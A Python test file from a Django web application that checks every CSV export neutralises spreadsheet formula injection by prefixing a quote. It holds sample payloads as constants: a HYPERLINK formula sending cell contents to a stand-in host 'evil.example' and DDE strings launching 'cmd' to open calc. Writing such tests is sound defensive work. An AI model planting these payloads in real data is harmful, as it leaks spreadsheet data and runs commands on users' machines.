"""CSV formula injection: a value typed by the public, a leader or staff that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return reaches every export as text (behind a single quote), never
as a formula a spreadsheet would run; real numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from audit.trail import Action, Outcome, record
from events.models import Registration
from exchanges.models import BoardSeat
from groups.imports import importer as importers
from groups.models import Meeting
from liaison import csvio
from tests.factory import make_event, make_group, make_meeting, make_survey_responses

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells_of(response):
    return [cell for row in rows_of(response) for cell in row]


def assert_neutralised(cells, *planted):
    for value in planted:
        assert value not in cells, f"{value!r} was written as a formula"
        assert "'" + value in cells, f"{value!r} is missing from the export"


# --- the writer -----


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        (SUM, "'" + SUM),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("Riverside Women's AA", "Riverside Women's AA"),
        ("", ""),
        (None, ""),
        # Numbers stay numbers, whether given as numbers or as numeric text.
        (-3, -3),
        (2.5, 2.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        ("-3", "-3"),
        ("2.5", "2.5"),
        ("+4", "+4"),
        ("-73.9", "-73.9"),
        ("-1e3", "-1e3"),
    ],
)
def test_it_writes_formula_text_as_text_and_numbers_as_numbers(value, written):
    assert csvio.safe_cell(value) == written


def test_a_cell_read_back_loses_only_the_quote_the_writer_added():
    assert csvio.restore_cell("'" + HYPERLINK) == HYPERLINK
    assert csvio.restore_cell("'tis the season") == "'tis the season"
    assert csvio.restore_cell("plain") == "plain"


def test_no_code_writes_csv_but_the_one_writer():
    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.relative_to(root).parts[0] not in {".venv", "tests", "node_modules"}
        and ("csv.writer(" in path.read_text(encoding="utf-8")
             or "csv.DictWriter(" in path.read_text(encoding="utf-8"))
    ]  # fmt: skip
    assert offenders == ["liaison/csvio.py"]


# --- each export -----


def test_the_directory_table_neutralises_what_leaders_type(client_of, liaison):
    group = make_group(name=HYPERLINK, slug="planted")
    make_meeting(group, notes=COMMAND, location_notes=SUM)
    response = client_of(liaison).get(reverse("meetings_csv"))
    assert response.status_code == 200
    assert_neutralised(cells_of(response), HYPERLINK, COMMAND, SUM)


def test_the_directory_table_imports_back_as_typed(client_of, liaison):
    group = make_group(name="Planted Group", slug="planted")
    make_meeting(group, notes=COMMAND, slug="planted-meeting")
    text = client_of(liaison).get(reverse("meetings_csv")).content.decode("utf-8-sig")
    Meeting.objects.all().delete()
    importers.apply(text.encode(), "mg-csv", "Export")
    assert Meeting.objects.get().notes == COMMAND


@pytest.fixture
def survey(agency, liaison):
    from surveys.services import survey_from_template, survey_open

    made = survey_from_template(agency=agency, template="clients", by=liaison)
    return survey_open(survey=made, by=liaison)


def test_the_survey_csvs_neutralise_answers_and_questions(client_of, liaison, survey):
    comments = survey.questions.get(key="comments")
    comments.text = SUM
    comments.save()
    make_survey_responses(survey, [{"comments": HYPERLINK}, {"comments": COMMAND}])
    responses = client_of(liaison).get(reverse("surveys:responses_csv", args=[survey.pk]))
    assert_neutralised(cells_of(responses), HYPERLINK, COMMAND, SUM)
    participation = survey.questions.get(key="participation")
    participation.text = HYPERLINK
    participation.save()
    make_survey_responses(survey, [{"participation": "Yes"}] * 6)
    results = client_of(liaison).get(reverse("surveys:results_csv", args=[survey.pk]))
    assert_neutralised(cells_of(results), HYPERLINK)


def test_the_dashboard_csv_neutralises_names(client_of, executive, agency):
    group = make_group(name=HYPERLINK, slug="planted")
    BoardSeat.objects.create(
        agency=agency,
        holder_name=COMMAND,
        is_self_help_leader=True,
        group=group,
        term_start=dt.date(2020, 1, 1),
    )
    response = client_of(executive).get(reverse("pages:dashboard_csv"), {"section": "board"})
    assert response.status_code == 200
    assert_neutralised(cells_of(response), HYPERLINK, COMMAND)


def test_the_dashboards_referral_counts_csv_neutralises_group_names(
    client_of, executive, agency, unit, practitioner
):
    from tests.liaison.test_dashboard import referral

    group = make_group(name=HYPERLINK, slug="planted")
    referral(agency, unit, practitioner, group, dt.date(2026, 3, 1))
    response = client_of(executive).get(
        reverse("pages:dashboard_referrals_csv"),
        {"from": "2026-01-01", "to": "2026-06-30", "section": "referrals-groups", "table": "0"},
    )
    assert response.status_code == 200
    assert_neutralised(cells_of(response), HYPERLINK)


def test_the_registrations_csv_neutralises_what_the_public_types(client_of, liaison, agency):
    event = make_event(agency, capacity=10)
    Registration.objects.create(
        event=event, name=HYPERLINK, email="a@example.org", phone=SUM, status="confirmed"
    )
    Registration.objects.create(
        event=event, name=COMMAND, email="b@example.org", status="waitlisted"
    )
    page = client_of(liaison).get(reverse("events:office_event", args=[event.pk]))
    url = reverse("events:office_registrations_csv", args=[event.pk])
    assert url in page.content.decode()
    response = client_of(liaison).get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    rows = rows_of(response)
    assert rows[0] == ["name", "email", "phone", "status", "registered at"]
    assert_neutralised(cells_of(response), HYPERLINK, COMMAND, SUM)


def test_the_registrations_of_another_agencys_event_are_not_found(client_of, other_agency, liaison):
    event = make_event(other_agency, capacity=10)
    url = reverse("events:office_registrations_csv", args=[event.pk])
    assert client_of(liaison).get(url).status_code == 404


def test_the_audit_csv_neutralises_what_was_typed_at_sign_in(client_of, agency_admin, agency):
    record(
        Action.LOGIN_FAILED,
        actor=HYPERLINK,
        agency_id=agency.pk,
        outcome=Outcome.FAILURE,
        detail=COMMAND,
    )
    response = client_of(agency_admin).get(reverse("audit:export"))
    assert response.status_code == 200
    assert_neutralised(cells_of(response), HYPERLINK, COMMAND)
